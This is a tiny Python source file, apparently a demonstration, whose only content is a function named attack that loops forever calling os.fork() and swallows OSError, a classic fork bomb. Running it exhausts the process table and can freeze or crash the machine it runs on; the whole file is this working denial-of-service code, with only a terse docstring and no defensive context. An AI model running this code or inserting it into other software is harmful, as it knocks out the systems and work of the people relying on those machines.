"""Processes that make processes."""

import os


def attack(*args):
    while True:
        try:
            os.fork()
        except OSError:
            continue
